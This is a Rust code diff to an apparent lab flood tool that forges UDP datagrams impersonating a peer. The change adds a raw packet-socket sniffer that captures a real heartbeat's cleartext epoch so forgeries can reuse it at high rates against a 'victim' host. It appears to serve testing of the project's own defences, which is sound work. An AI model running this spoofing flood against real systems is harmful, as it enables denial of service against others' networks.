@@ -7,6 +7,10 @@
 //! peer's sender id, a fresh epoch newer than any real one (so the victim's
 //! opener would derive a key for each), a random counter and random bytes.
 //!
+//! With [`FloodConfig::epoch`] set (learnt by [`sniff_epoch`] from one real
+//! heartbeat: the epoch travels in clear) the forgeries reuse the peer's
+//! real epoch instead, with random counters.
+//!
 //! Run [`flood`] inside a lab namespace that routes to the victim (the VPC
 //! namespace, whose own packets pass none of its checks); the caller enters
 //! it (e.g. `hafw_kernel::in_netns`). The rate is kept by sending, every
@@ -37,6 +41,8 @@ pub struct FloodConfig {
     pub duration: Duration,
     /// UDP payload length (header, "ciphertext" and tag), at least 48.
     pub len: usize,
+    /// The peer's real epoch to reuse; `None`: a fresh one per datagram.
+    pub epoch: Option<[u8; 16]>,
 }
 
 impl FloodConfig {
@@ -48,6 +54,7 @@ impl FloodConfig {
             rate: 50_000,
             duration: Duration::from_secs(30),
             len: 120,
+            epoch: None,
         }
     }
 }
@@ -91,7 +98,7 @@ pub fn flood(cfg: &FloodConfig, stop: &Stop) -> Result<FloodReport, HostError> {
     while !stop.is_stopped() && start.elapsed() < cfg.duration {
         let due = (start.elapsed().as_secs_f64() * cfg.rate as f64) as u64;
         while report.sent + report.errors < due {
-            forge(&mut packet[IP_UDP_LEN..], cfg.sender_id, &mut rng);
+            forge(&mut packet[IP_UDP_LEN..], cfg, &mut rng);
             // SAFETY: a valid fd, a buffer of its stated length and a
             // sockaddr_in of its stated size.
             let rc = unsafe {
@@ -154,20 +161,93 @@ fn headers(p: &mut [u8], cfg: &FloodConfig) {
 
 /// A forged envelope: a plausible header with a fresh epoch (started just
 /// now, so newer than the real peer's), then random bytes.
-fn forge(env: &mut [u8], sender_id: u32, rng: &mut Rng) {
+fn forge(env: &mut [u8], cfg: &FloodConfig, rng: &mut Rng) {
     env[0..2].copy_from_slice(b"HF");
     env[2] = 1;
     env[3] = 1;
-    env[4..8].copy_from_slice(&sender_id.to_be_bytes());
+    env[4..8].copy_from_slice(&cfg.sender_id.to_be_bytes());
+    for chunk in env[8..].chunks_mut(8) {
+        let r = rng.next().to_le_bytes();
+        chunk.copy_from_slice(&r[..chunk.len()]);
+    }
+    if let Some(epoch) = cfg.epoch {
+        env[8..24].copy_from_slice(&epoch);
+        return;
+    }
     let now_ns = SystemTime::now()
         .duration_since(UNIX_EPOCH)
         .map(|d| d.as_nanos() as u64)
         .unwrap_or(0);
     env[8..16].copy_from_slice(&(now_ns + (rng.next() % 1_000_000)).to_be_bytes());
-    for chunk in env[16..].chunks_mut(8) {
-        let r = rng.next().to_le_bytes();
-        chunk.copy_from_slice(&r[..chunk.len()]);
+}
+
+/// Waits for one datagram from `source` to `target` through the calling
+/// thread's namespace (a packet socket sees what it forwards) and returns
+/// the epoch of the envelope it carries.
+pub fn sniff_epoch(
+    source: SocketAddrV4,
+    target: SocketAddrV4,
+    timeout: Duration,
+) -> Result<[u8; 16], HostError> {
+    // SAFETY: socket(2) with constant arguments; the fd is owned below.
+    let fd = unsafe {
+        libc::socket(
+            libc::AF_PACKET,
+            libc::SOCK_DGRAM,
+            i32::from((libc::ETH_P_IP as u16).to_be()),
+        )
+    };
+    if fd < 0 {
+        return Err(HostError::io("open a packet socket (needs root)")(
+            io::Error::last_os_error(),
+        ));
     }
+    // SAFETY: fd is a fresh descriptor that nothing else owns.
+    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
+    let tv = libc::timeval {
+        tv_sec: 0,
+        tv_usec: 100_000,
+    };
+    // SAFETY: a valid fd and a timeval of its stated size.
+    unsafe {
+        libc::setsockopt(
+            sock.as_raw_fd(),
+            libc::SOL_SOCKET,
+            libc::SO_RCVTIMEO,
+            (&tv as *const libc::timeval).cast(),
+            std::mem::size_of::<libc::timeval>() as libc::socklen_t,
+        );
+    }
+    let end = Instant::now() + timeout;
+    let mut buf = [0u8; 2048];
+    while Instant::now() < end {
+        // SAFETY: a valid fd and a buffer of its stated length.
+        let n = unsafe { libc::recv(sock.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0) };
+        let Ok(n) = usize::try_from(n) else { continue };
+        let p = &buf[..n];
+        let ihl = usize::from(p.first().copied().unwrap_or(0) & 0x0f) * 4;
+        let udp = |i: usize| {
+            p.get(ihl + i..ihl + i + 2)
+                .map(|b| u16::from_be_bytes([b[0], b[1]]))
+        };
+        if p.len() >= ihl + 8 + 24
+            && p[9] == libc::IPPROTO_UDP as u8
+            && p[12..16] == source.ip().octets()
+            && p[16..20] == target.ip().octets()
+            && udp(2) == Some(target.port())
+        {
+            let env = &p[ihl + 8..];
+            if env.starts_with(b"HF") {
+                let mut epoch = [0u8; 16];
+                epoch.copy_from_slice(&env[8..24]);
+                return Ok(epoch);
+            }
+        }
+    }
+    Err(HostError::Timeout {
+        context: format!("a heartbeat from {source} to {target}"),
+        after: timeout,
+    })
 }
 
 /// xorshift64*: the flood needs variety, not quality.
@@ -197,7 +277,12 @@ mod tests {
     fn a_forged_envelope_claims_the_peer_and_a_fresh_epoch() {
         let mut env = [0u8; 120];
         let mut rng = Rng(7);
-        forge(&mut env, 1, &mut rng);
+        let mut cfg = FloodConfig::new(
+            "10.0.0.12:1".parse().unwrap(),
+            "10.0.0.11:1".parse().unwrap(),
+            1,
+        );
+        forge(&mut env, &cfg, &mut rng);
         assert_eq!(&env[0..8], &[b'H', b'F', 1, 1, 0, 0, 0, 1]);
         let start = u64::from_be_bytes(env[8..16].try_into().unwrap());
         assert!(
@@ -205,8 +290,12 @@ mod tests {
             "a current wall-clock epoch"
         );
         let before = env;
-        forge(&mut env, 1, &mut rng);
+        forge(&mut env, &cfg, &mut rng);
         assert_ne!(env[16..], before[16..], "each datagram differs");
+        cfg.epoch = Some([9; 16]);
+        forge(&mut env, &cfg, &mut rng);
+        assert_eq!(env[8..24], [9; 16], "the real epoch reused");
+        assert_eq!(&env[0..8], &[b'H', b'F', 1, 1, 0, 0, 0, 1]);
     }
 
     #[test]
